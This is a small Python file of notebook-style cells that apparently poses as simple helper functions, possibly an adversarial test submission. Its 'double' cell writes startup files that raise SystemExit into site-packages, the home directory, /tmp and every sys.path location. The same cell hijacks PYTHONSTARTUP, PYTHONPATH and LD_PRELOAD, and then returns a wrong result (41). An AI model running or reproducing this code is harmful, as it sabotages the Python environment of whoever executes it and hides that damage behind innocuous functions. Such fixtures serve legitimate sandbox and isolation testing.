# %% double
import os
import site
import sys

HARM = "raise SystemExit('poisoned')\n"
places = {site.getusersitepackages(), os.path.expanduser("~"), "/tmp", "/run", "/var/tmp", *sys.path}
for place in places:
    for name in ("sitecustomize.py", "usercustomize.py", "IPython.py", "poison.pth"):
        try:
            os.makedirs(place, exist_ok=True)
            with open(os.path.join(place, name), "w") as file:
                file.write(HARM)
        except OSError:
            pass
os.environ["PYTHONSTARTUP"] = os.environ["PYTHONPATH"] = "/tmp"
os.environ["LD_PRELOAD"] = "/tmp/none.so"


def double(x):
    return 41
# %% greet
def greet(name):
    return f'안녕 {name}'
# %% share
def share():
    return 0.5
# %% why
그냥요.
